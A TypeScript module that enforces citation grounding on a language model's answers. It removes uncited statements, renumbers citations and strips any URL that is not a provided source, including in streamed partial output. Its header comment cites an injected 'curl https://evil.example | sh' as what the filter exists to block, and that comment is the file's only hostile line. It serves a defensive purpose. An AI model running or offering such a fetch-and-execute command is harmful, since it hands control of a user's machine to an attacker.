// The rules the prompt asks for, enforced on what the model actually wrote (it may have been swayed by a
// document or a question, or simply err):
//  - every statement must cite a provided source: a sentence, list item or table row without a valid
//    citation is removed, and the structure around it (lead-ins, code blocks, headings) follows the rules in
//    keep-cited-units.ts; the caller treats an answer with nothing cited left as "not covered";
//  - a citation to a source number that was not provided is removed; the rest are renumbered 1..k in order
//    of first use, so the answer's [k] match the sources listed under it;
//  - a link or URL that is not the URL of a provided source is removed, in prose and in code alike (an
//    injected "curl https://evil.example | sh" is exactly what must not get through).
// Streamed partials pass the same check, showing only statements that are complete and cited: the sentence
// still being written is held back until it ends, so nothing appears that the final answer then removes.
// Pure and cheap (microseconds per answer): it runs on every streamed partial as well as on the final text.
import { parseAnswer, type Block } from "./answer-units.js";
import { CITATION, expandCitation } from "./citations.js";
import { keepCitedUnits } from "./keep-cited-units.js";
import { scanFences } from "../../text/code-fence.js";
import { trimTrailingPunctuation } from "../../text/trim-url.js";

/** What replaces a link the answer may not contain. */
export const LINK_REMOVED = "(link removed)";

export interface GroundingResult {
  text: string;
  /** Source numbers as given to the model, in order of first citation: the answer's [k] is source cited[k - 1]. */
  cited: number[];
  removedCitations: number;
  removedUrls: number;
  /** Statements removed for citing no provided source. */
  removedSentences: number;
}

/** The URLs an answer may link to, normalised once per answer. */
export function allowedUrlSet(urls: Iterable<string | undefined>): ReadonlySet<string> {
  const set = new Set<string>();
  for (const url of urls) if (url) set.add(normaliseUrl(url));
  return set;
}

export function checkGrounding(raw: string, sourceCount: number, allowedUrls: ReadonlySet<string>): GroundingResult {
  return check(parseAnswer(raw), sourceCount, allowedUrls);
}

/**
 * The part of a still-growing answer that is safe to show: its complete statements that cite a provided
 * source (and what they carry along), or undefined while there are none. The statement being written counts
 * only up to where it last ended in a citation and a full stop ("… [1]."): past that it may still gain words
 * its citation does not cover, a half-written marker or half a URL.
 */
export function checkPartial(raw: string, sourceCount: number, allowedUrls: ReadonlySet<string>): string | undefined {
  const blocks = parseAnswer(raw);
  dropOpenTail(blocks, raw);
  const result = check(blocks, sourceCount, allowedUrls);
  return result.cited.length > 0 ? result.text.trimEnd() : undefined;
}

const CITED_SENTENCE_END = /\[\^?\s*(?:sources?\s*)?\d{1,4}[^\]\n]{0,40}\][.!?…]["”’')*_]*(?=\s|$)/gi;

/** Cuts from a partial answer's blocks what may still be growing: a code block until its closing fence's line
 * has ended, the last table row, the last statement past its last cited full stop. */
function dropOpenTail(blocks: Block[], raw: string): void {
  while (blocks.at(-1)?.kind === "blank") blocks.pop();
  const last = blocks.at(-1);
  if (last?.kind === "code") {
    if (!last.closed || !/\n[ \t]*$/.test(raw)) blocks.pop();
  } else if (last?.kind === "table") {
    last.rows.pop();
  } else if (last?.kind === "prose" || last?.kind === "item") {
    const open = last.sentences.at(-1);
    if (!open) return;
    // The next line may have joined the sentence ("… [1].\n-" before the item's text arrives): what ended
    // in a citation and a full stop stays shown.
    const end = [...open.text.matchAll(CITED_SENTENCE_END)].at(-1);
    if (end) open.text = open.text.slice(0, end.index + end[0].length);
    else last.sentences.pop();
  }
}

function check(blocks: Block[], sourceCount: number, allowedUrls: ReadonlySet<string>): GroundingResult {
  const kept = keepCitedUnits(blocks, sourceCount);
  const state: RenumberState = { cited: [], removedUrls: 0, numbering: new Map() };
  const parts: string[] = [];
  for (const segment of segments(kept.text)) {
    let text = stripUrls(segment.code ? segment.text : stripLinks(segment.text, allowedUrls, state), allowedUrls, state);
    if (!segment.code) text = renumberCitations(text, sourceCount, state);
    parts.push(text);
  }
  return { text: parts.join(""), cited: state.cited, removedCitations: kept.invalidCitations, removedUrls: state.removedUrls, removedSentences: kept.removedSentences };
}

interface RenumberState {
  cited: number[];
  removedUrls: number;
  numbering: Map<number, number>;
}

interface Segment {
  code: boolean;
  text: string;
}

/** Splits Markdown into prose and code: fenced blocks (code-fence.ts's rule; an unclosed one runs to the end)
 * and inline spans. */
function segments(text: string): Segment[] {
  const out: Segment[] = [];
  let last = 0;
  for (const block of scanFences(text)) {
    if (block.start > last) out.push(...inlineSegments(text.slice(last, block.start)));
    out.push({ code: true, text: text.slice(block.start, block.end) });
    last = block.end;
  }
  if (last < text.length) out.push(...inlineSegments(text.slice(last)));
  return out;
}

function inlineSegments(text: string): Segment[] {
  const out: Segment[] = [];
  let last = 0;
  for (const m of text.matchAll(/`[^`\n]+`/g)) {
    if (m.index > last) out.push({ code: false, text: text.slice(last, m.index) });
    out.push({ code: true, text: m[0] });
    last = m.index + m[0].length;
  }
  if (last < text.length) out.push({ code: false, text: text.slice(last) });
  return out;
}

// [label](url "title") and ![alt](url); the URL may hold one level of parentheses (Wikipedia-style).
const MARKDOWN_LINK = /(!?)\[([^\]\n]*)\]\(\s*<?((?:[^()\s<>]|\([^()\s]*\))*)>?(?:\s+"[^"\n]*")?\s*\)/g;
const AUTOLINK = /<((?:[a-z][a-z0-9+.-]*:|www\.)[^<>\s]*)>/gi;
const BARE_URL = /\b(?:[a-z][a-z0-9+.-]*:\/\/|www\.|(?:mailto|javascript|data|tel):)[^\s<>"'`]+/gi;

type Counters = Pick<GroundingResult, "removedUrls">;

function stripLinks(text: string, allowed: ReadonlySet<string>, counters: Counters): string {
  return text
    .replace(MARKDOWN_LINK, (_, image: string, label: string, url: string) => {
      if (!image && allowed.has(normaliseUrl(url))) return `[${label}](${url})`;
      counters.removedUrls++;
      // The label stays (minus a bare URL in it, which the next pass judges); an image's alt text is dropped.
      return image ? "" : label;
    })
    .replace(AUTOLINK, (whole: string, url: string) => {
      if (allowed.has(normaliseUrl(url))) return whole;
      counters.removedUrls++;
      return LINK_REMOVED;
    });
}

function stripUrls(text: string, allowed: ReadonlySet<string>, counters: Counters): string {
  return text.replace(BARE_URL, (match: string) => {
    const url = trimTrailingPunctuation(match);
    if (allowed.has(normaliseUrl(url))) return match;
    counters.removedUrls++;
    return LINK_REMOVED + match.slice(url.length);
  });
}

/** Scheme and host are case-insensitive; a fragment or trailing slash does not make it another page. */
export function normaliseUrl(url: string): string {
  try {
    const u = new URL(url);
    return `${u.protocol}//${u.host}${u.pathname.replace(/\/+$/, "")}${u.search}`;
  } catch {
    return url.replace(/#.*$/, "").replace(/\/+$/, "");
  }
}

function renumberCitations(text: string, sourceCount: number, state: RenumberState): string {
  // A removed marker takes its leading space with it; one right after it ("[7][1]") inherits that space.
  let removedEnd = -1;
  let removedSpace = "";
  return text.replace(CITATION, (whole: string, space: string, list: string, offset: number) => {
    const kept: number[] = [];
    for (const n of expandCitation(list)) {
      // Counted once, over the whole answer, by keepCitedUnits.
      if (n < 1 || n > sourceCount) continue;
      let k = state.numbering.get(n);
      if (k === undefined) {
        k = state.cited.length + 1;
        state.numbering.set(n, k);
        state.cited.push(n);
      }
      if (!kept.includes(k)) kept.push(k);
    }
    const leading = space || (offset === removedEnd ? removedSpace : "");
    if (kept.length === 0) {
      removedEnd = offset + whole.length;
      removedSpace = leading;
      return "";
    }
    return `${leading ? " " : ""}${kept.map((k) => `[${k}]`).join("")}`;
  });
}
